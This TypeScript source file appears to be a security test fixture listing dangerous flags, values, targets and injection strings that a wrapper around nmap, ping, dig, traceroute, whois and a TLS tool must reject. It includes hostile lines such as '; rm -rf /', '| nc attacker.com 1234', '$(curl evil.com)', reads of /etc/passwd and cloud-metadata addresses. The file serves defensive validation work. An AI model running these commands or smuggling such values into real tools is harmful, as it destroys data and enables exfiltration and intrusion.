/** Flags that read or write files, load code, spoof, flood, or lead elsewhere, as they would be written on a command line. */
export const dangerousFlags: Readonly<Record<string, readonly string[]>> = {
  nmap: [
    '-iL /etc/passwd', '-iL=/etc/passwd', '-iL', '-iR 10', '-iR', '--excludefile /etc/shadow', '--exclude-file x', '--exclude 10.0.0.1', '--resume scan.log',
    '-oN out.txt', '-oN', '-oX out.xml', '-oX', '-oX -', '-oG out', '-oG', '-oA base', '-oS out', '-oM out', '--append-output', '-oX/tmp/x', '-oN=/tmp/x',
    '--stylesheet http://10.0.0.1/x.xsl', '--webxml', '--datadir /tmp', '--servicedb /tmp/x', '--versiondb /tmp/x',
    '--script /tmp/evil.nse', '--script ./evil.nse', '--script ../evil', '--script @/tmp/list', '--script all', '--script default', '--script vuln', '--script http-*', '--script "a and b"', '--script=', '--script',
    '--script-args a=b', '--script-args-file /tmp/x', '--script-updatedb', '--script-trace', '--script-help all', '--script-timeout 1s',
    '--interactive', '--proxies http://10.0.0.1:8080', '--proxy socks4://10.0.0.1', '--dns-servers 10.0.0.53', '--system-dns', '-R',
    '-D 10.0.0.1', '-D RND:10', '-S 10.0.0.1', '-e eth0', '-g 53', '--source-port 53', '--spoof-mac 0', '-sI zombie', '-b ftp.lab.internal',
    '--data deadbeef', '--data-string x', '--data-length 100', '-f', '-ff', '--mtu 8', '--badsum', '--ip-options R', '--adler32',
    '--min-rate 10000', '--max-rate 100000', '--min-parallelism 100', '--min-hostgroup 1000', '--max-hostgroup 9999', '--host-timeout 0', '--host-timeout 99999s', '--scan-delay 0', '--max-scan-delay 0', '--min-rtt-timeout 1', '--defeat-rst-ratelimit',
    '-T5', '-T 5', '-T insane', '-T', '-T-1', '--privileged', '--send-eth', '--send-ip', '--iflist', '--release-memory', '--route-dst 10.0.0.1', '--traceroute',
    '-sF', '-sX', '-sN', '-sA', '-sW', '-sM', '-sO', '-sY', '-sZ', '-sL', '--scanflags ALL', '-PS22', '-PA80', '-PU', '-PE', '-PR',
    '-d', '-dd', '-d9', '-v', '-vv', '-vvv', '-h', '-V', '--packet-trace', '--version-all', '--version-trace', '--allports', '-p-', '-p0', '-p 65536', '-p 80-', '-p http*', '-p 443-80', '-p T:80', '-p /etc/passwd', '-p --script=evil', '-p',
    '--top-ports 0', '--top-ports 65535', '--top-ports -1', '--max-retries 10', '--version-intensity 10', '--max-parallelism 1000', '-sV 31337', '-sV 10.0.0.2', '10.0.0.2', '10.0.0.0/24', '--', '-- 10.0.0.2', '-', '-n=1', '-sT=1', '-nv', '-Fn',
  ],
  ping: [
    '-f', '-l 100', '-b', '-I eth0', '-I 10.0.0.1', '-R', '-T tsonly', '-p ff', '-Q 16', '-m 1', '-M do', '-M dont', '-L', '-A', '-a', '-B', '-C', '-d', '-D', '-e 1', '-F 1', '-N help', '-O', '-q', '-r', '-S 1000000', '-U', '-v', '-V', '-h', '-w 100000', '-n', '--help',
    '-c 0', '-c 11', '-c 1000000', '-c -1', '-c 1e3', '-c 0x5', '-c', '-c 4 5', '-i 0', '-i 0.1', '-i 0.001', '-i 3600', '-W 0', '-W 600', '-s 65507', '-s 1473', '-s -1', '-t 0', '-t 256', '-c4 -f', '-fc4', '-4 -6', '10.0.0.2', '-- 10.0.0.2', '-c=', '-4=1',
  ],
  traceroute: [
    '-i eth0', '-s 10.0.0.1', '-g 10.0.0.1', '-M tcp', '-O ack', '-N 100', '-F', '-p 80', '--port=80', '--sport=53', '--fwmark=1', '--mtu', '-z 0', '-A', '-e', '-d', '-r', '-t 16', '-l 1', '-U', '-UL', '-D', '-P 1', '--back', '-V', '--help', '-f 5', '-n',
    '-m 0', '-m 31', '-m 255', '-q 0', '-q 4', '-q 100', '-w 0', '-w 60', '-w 1,2,3', '-m', '-I -T', '10.0.0.2', '60', '-- 10.0.0.2', '--max-hops=99', '--queries=99',
  ],
  dig: [
    '-f /etc/passwd', '-f', '-k /tmp/key', '-y hmac:name:secret', '-b 10.0.0.1', '-p 6379', '-p', '-q evil.lab.internal', '-x 8.8.8.8', '-c CH', '-4', '-6', '-h', '-v', '-m', '-i', '-u', '-r',
    '+trace', '+nssearch', '+tls', '+tls-ca=/etc/passwd', '+tls-certfile=/x', '+tls-keyfile=/x', '+https', '+https=/x', '+http-plain', '+proxy', '+search', '+domain=evil', '+bufsize=65535', '+retry=9', '+time=0', '+time=60', '+tries=10', '+time', '+edns=0', '+subnet=8.8.8.8', '+keepopen', '+vc', '+ndots=9', '+padding=9', '+qr', '+yaml',
    '-t AXFR', '-t IXFR=1', '-t ANY', '-t TYPE252', '-t a', '-t', 'AXFR', 'ANY', 'evil.lab.internal', '@evil.lab.internal', '@8.8.8.8', '@169.254.169.254', '@', '@-p', '@10.0.0.1 @10.0.0.2', '+short=1',
  ],
  whois: ['-h 127.0.0.1', '--host=127.0.0.1', '-p 6379', '-i mnt-by', '-T person', '-r', '-I', '--verbose', '-a', '-B', '-g RIPE:1-2', '-q version', '-t domain', '-v domain'],
  tls_inspect: [
    '-keylogfile /tmp/k', '-msgfile /tmp/m', '-sess_out /tmp/s', '-sess_in /tmp/s', '-CAfile /etc/passwd', '-CApath /etc', '-cert /x', '-key /x', '-cert_chain /x', '-dtls', '-dtls1_2', '-proxy 10.0.0.1:8080', '-unix /run/x', '-engine x', '-provider x', '-provider-path /tmp', '-psk 00', '-psk_session /x', '-config /x', '-rand /x', '-writerand /x', '-connect 8.8.8.8:443', '-verify_return_error', '-early_data /x', '-ign_eof', '-quiet', '-brief', '-host x', '-port 1', '-bind 10.0.0.1', '-nbio', '-reconnect', '-www',
  ],
};

/** Values of typed arguments that break their rule. */
export const dangerousValues: Readonly<Record<string, readonly (readonly [string, unknown])[]>> = {
  nmap: [
    ['ports', '80;id'], ['ports', '$(id)'], ['ports', '-iL/etc/passwd'], ['ports', '80 --script=x'], ['ports', '80\n-iL'], ['ports', '80\0'], ['ports', '１'], ['ports', 80], ['ports', ['80']], ['ports', null],
    ['scripts', ['../../x']], ['scripts', ['/tmp/x.nse']], ['scripts', ['-A']], ['scripts', ['a,b']], ['scripts', ['a b']], ['scripts', 'all'], ['scripts', [{}]], ['scripts', ['http-title', 'x'.repeat(70)]],
    ['host_timeout', '0s'], ['host_timeout', '10m'], ['host_timeout', '-1s'], ['host_timeout', '1s -oN x'], ['timing', 5], ['timing', '4'], ['timing', -1], ['timing', 1.5], ['version_detection', 'true'], ['version_detection', 1], ['template', 'evil'], ['template', '__proto__'], ['max_parallelism', 1e9],
  ],
  ping: [['count', '4'], ['count', 4.5], ['count', Number.MAX_SAFE_INTEGER], ['count', { valueOf: 1 }], ['count', true], ['interval', 0], ['interval', 1e-7], ['size', -1], ['ipv4', 'yes']],
  traceroute: [['max_hops', 99], ['queries', '1'], ['wait', 0]],
  dig: [['type', 'AXFR'], ['type', 'A '], ['type', '-f'], ['server', '8.8.8.8'], ['server', '10.0.0.1#6379'], ['server', '-f/etc/passwd'], ['server', 'evil'], ['server', 'fe80::1%eth0'], ['time', 600]],
  tls_inspect: [['port', 0], ['port', 65_536], ['port', '443'], ['port', '443 -proxy x'], ['server_name', '-proxy'], ['server_name', 'a b'], ['server_name', 'a\nb'], ['server_name', '../x'], ['alpn', ['-x']], ['alpn', ['h2,x y']], ['starttls', 'evil'], ['tls1_2', 'on']],
};

/** Targets no tool may be pointed at, or that are no target at all. */
export const dangerousTargets: readonly string[] = [
  '8.8.8.8', '1.1.1.1', '169.254.169.254', '100.100.100.200', '0.0.0.0', '255.255.255.255', '224.0.0.1', '240.0.0.1', '192.0.2.1', '198.18.0.1', '100.64.0.1',
  '2001:4860:4860::8888', 'fe80::1', 'ff02::1', '::', '::ffff:8.8.8.8', '::8.8.8.8', '64:ff9b::8.8.8.8', '2002:808:808::', 'fd00:ec2::254%eth0',
  '0x7f.1', '127.1', '2130706433', '017700000001', '0177.0.0.1', '①②⑦.⓪.⓪.①', '127.0.0.1.', '10.0.0.256', '10.0.0', '10.0.0.1-254', '10.0.0.*', '10.0.0.1,2', '10.0.0.1 10.0.0.2', '[10.0.0.1]',
  'google.com', 'evil.lab.internal.attacker.com', 'lab.internal', '-lab.internal', 'a..lab.internal', '.lab.internal', `${'a'.repeat(64)}.lab.internal`, 'rebound.lab.internal', 'half.lab.internal', 'unknown.lab.internal', 'metadata.google.internal',
  '-iL', '--help', '-oN/tmp/x', '-f/etc/passwd', '@10.0.0.1', '/etc/passwd', 'file:///etc/passwd', 'http://10.0.0.1/', '10.0.0.1/33', '10.0.0.1/-1', '10.0.0.1/', '10.0.0.1:22', 'user@10.0.0.1', 'a%00b.lab.internal', 'a%2elab.internal', 'é.lab.internal/x',
];

/** Injection vectors that every argument of every tool must refuse. */
export const injectionVectors: readonly string[] = [
  '; rm -rf /', '& wget evil.com/backdoor', '| nc attacker.com 1234', '`whoami`', '$(curl evil.com)', '../../../etc/passwd', '..\\..\\..\\windows\\system32', '\0', 'valid\0malicious',
  '\\x00', 'valid\\x00malicious', '$VAR', '${SHELL}', '\n', '\r', '\\n', '\\r', '127.0.0.1\n', '127.0.0.1;id', "127.0.0.1' -f '", '127.0.0.1 -f', '\u0085', '\u2028x', '> /tmp/x', '< /etc/passwd', '*', '~root', '{a,b}', '!!', '#x',
];
